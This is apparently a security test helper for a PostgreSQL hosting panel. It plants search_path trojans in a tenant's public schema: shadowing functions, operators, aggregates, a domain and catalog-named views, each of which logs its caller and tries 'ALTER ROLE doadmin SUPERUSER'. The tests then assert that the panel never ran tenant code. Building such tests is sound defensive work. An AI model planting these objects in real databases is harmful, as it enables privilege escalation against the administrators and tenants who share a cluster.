"""The trojans a tenant plants against the panel (issue 10, row 9 and item 0), and how
tests/security/test_trojans.py reads whether any of them ran: the CVE-2018-1058 class of objects in
``public`` (overloads of the functions the panel calls, operators on the types it compares,
aggregates, views named as catalog relations, a domain named as a catalog type), each recording who
ran it and trying ``ALTER ROLE doadmin SUPERUSER``; doadmin's connections over TCP and TLS, as a
tenant connects."""

from __future__ import annotations

import psycopg

from panel.clusters import services
from panel.clusters.engine import dbconn
from panel.clusters.models import Cluster

BENCH_DB = "benchdb"
PINNED = "-c search_path=pg_catalog,pg_temp"

# (name, arguments, result type, the real value it returns so that nothing else looks wrong)
FUNCTIONS = [
    # Row 9: an exact match for an oid argument beats pg_catalog's (regclass) in any search_path.
    ("pg_total_relation_size", "oid", "bigint", "pg_catalog.pg_total_relation_size($1::pg_catalog.regclass)"),
    ("pg_total_relation_size", "regclass", "bigint", "pg_catalog.pg_total_relation_size($1)"),
    ("pg_relation_size", "oid", "bigint", "pg_catalog.pg_relation_size($1::pg_catalog.regclass)"),
    ("pg_relation_size", "regclass", "bigint", "pg_catalog.pg_relation_size($1)"),
    ("pg_database_size", "oid", "bigint", "pg_catalog.pg_database_size($1)"),
    ("pg_database_size", "name", "bigint", "pg_catalog.pg_database_size($1)"),
    ("has_database_privilege", "oid, text", "boolean", "pg_catalog.has_database_privilege($1, $2)"),
    ("pg_has_role", "name, text", "boolean", "pg_catalog.pg_has_role($1, $2)"),
    # An exact match for a name column: beats pg_catalog's starts_with(text, text).
    ("starts_with", "name, text", "boolean", "pg_catalog.starts_with($1::pg_catalog.text, $2)"),
    ("pg_backend_pid", "", "integer", "pg_catalog.pg_backend_pid()"),
    ("current_setting", "text", "text", "pg_catalog.current_setting($1)"),
    ("pg_postmaster_start_time", "", "timestamptz", "pg_catalog.pg_postmaster_start_time()"),
    ("now", "", "timestamptz", "pg_catalog.now()"),
    ("pg_get_userbyid", "oid", "name", "pg_catalog.pg_get_userbyid($1)"),
]
# (operator, left type, right type, result type)
OPERATORS = [
    ("=", "oid", "oid", "boolean"),
    ("=", '"char"', '"char"', "boolean"),
    ("=", "name", "name", "boolean"),
    ("=", "text", "text", "boolean"),
    ("<>", "integer", "integer", "boolean"),
    ("+", "bigint", "bigint", "bigint"),
    ("~~", "name", "text", "boolean"),
    ("~~", "text", "text", "boolean"),
]
CATALOG_VIEWS = [
    "pg_class",
    "pg_namespace",
    "pg_database",
    "pg_roles",
    "pg_stat_database",
    "pg_stat_activity",
    "pg_stat_user_tables",
]


def trojan_sql() -> list[str]:
    statements = [
        "CREATE TABLE public.trojan_marker (who text, what text)",
        "GRANT INSERT ON public.trojan_marker TO PUBLIC",
        # Runs as whoever calls it: records the caller, then tries to make doadmin superuser
        # (a role without the right gets an error, swallowed so the caller's query still works).
        """CREATE FUNCTION public.trojan_fire(what text) RETURNS boolean LANGUAGE plpgsql AS $$
        BEGIN
            INSERT INTO public.trojan_marker VALUES (current_user, what);
            BEGIN
                EXECUTE 'ALTER ROLE doadmin SUPERUSER';
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
            RETURN true;
        END $$""",
    ]
    for name, args, result, real in FUNCTIONS:
        params = ", ".join(f"{arg.strip()}" for arg in args.split(",")) if args else ""
        statements.append(
            f"CREATE FUNCTION public.{name}({params}) RETURNS {result} LANGUAGE plpgsql AS $$ "
            f"BEGIN PERFORM public.trojan_fire('{name}({args})'); RETURN {real}; END $$"
        )
    for index, (op, left, right, result) in enumerate(OPERATORS):
        statements += [
            f"CREATE FUNCTION public.trojan_op_{index}({left}, {right}) RETURNS {result} LANGUAGE plpgsql AS $$ "
            f"BEGIN PERFORM public.trojan_fire('{left} {op} {right}'); "
            f"RETURN $1 OPERATOR(pg_catalog.{op}) $2; END $$",
            f"CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, "
            f"FUNCTION = public.trojan_op_{index})",
        ]
    statements += [
        """CREATE FUNCTION public.trojan_sum_step(numeric, bigint) RETURNS numeric LANGUAGE plpgsql AS $$
        BEGIN PERFORM public.trojan_fire('sum(bigint)');
        RETURN coalesce($1, 0) OPERATOR(pg_catalog.+) $2; END $$""",
        "CREATE AGGREGATE public.sum(bigint) (SFUNC = public.trojan_sum_step, STYPE = numeric)",
        """CREATE FUNCTION public.trojan_count_step(bigint) RETURNS bigint LANGUAGE plpgsql AS $$
        BEGIN PERFORM public.trojan_fire('count(*)'); RETURN $1 OPERATOR(pg_catalog.+) 1; END $$""",
        "CREATE AGGREGATE public.count(*) (SFUNC = public.trojan_count_step, STYPE = bigint, INITCOND = '0')",
        # A cast to a type the tenant owns runs the domain's CHECK.
        "CREATE DOMAIN public.float8 AS pg_catalog.float8 CHECK (public.trojan_fire('cast to float8'))",
    ]
    statements += [
        f"CREATE VIEW public.{view} AS SELECT * FROM pg_catalog.{view} "
        f"WHERE public.trojan_fire('view {view}')"
        for view in CATALOG_VIEWS
    ]
    return statements


def as_doadmin(cluster: Cluster, dbname: str, *, pinned: bool = True) -> psycopg.Connection:
    """doadmin over TCP and TLS, as a tenant connects; pinned unless asked, so that the test's
    own reads do not set off the trojans."""
    details = services.connection_details(cluster, database=dbname)
    params: dict[str, object] = {
        "host": details.host,
        "port": details.port,
        "user": details.user,
        "password": details.password,
        "dbname": details.database,
        "sslmode": details.sslmode,
        "connect_timeout": 5,
        "autocommit": True,
    }
    if pinned:
        params["options"] = PINNED
    return psycopg.connect(**params)  # type: ignore[arg-type]


def plant(cluster: Cluster, dbname: str) -> None:
    with as_doadmin(cluster, dbname) as conn:
        for statement in trojan_sql():
            conn.execute(statement)
        conn.execute(f'ALTER DATABASE "{dbname}" SET search_path = public, pg_catalog')


def doadmin_is_superuser(cluster: Cluster) -> bool:
    with dbconn.admin_connection(cluster) as conn:
        row = conn.execute("SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'doadmin'").fetchone()
    assert row is not None
    return bool(row[0])


def fired(cluster: Cluster, dbname: str, *, by_doadmin: bool = False) -> list[tuple[str, str]]:
    """(who, what) of the trojans that ran in ``dbname``: by the panel's roles (anyone but the
    tenant, whose own pgbench may run them harmlessly), or by doadmin."""
    with as_doadmin(cluster, dbname) as conn:
        rows = conn.execute(
            "SELECT DISTINCT who, what FROM public.trojan_marker WHERE (who = 'doadmin') = %s ORDER BY 1, 2",
            [by_doadmin],
        ).fetchall()
    return [(who, what) for who, what in rows]


def assert_untouched(cluster: Cluster) -> None:
    for dbname in (cluster.default_database, BENCH_DB):
        assert fired(cluster, dbname) == [], f"the panel ran tenant code in {dbname}"
    assert not doadmin_is_superuser(cluster)


def doadmin_sessions(cluster: Cluster) -> int:
    with dbconn.admin_connection(cluster) as conn:
        row = conn.execute(
            "SELECT count(*) FROM pg_catalog.pg_stat_activity WHERE usename = 'doadmin'"
        ).fetchone()
    assert row is not None
    return int(row[0])
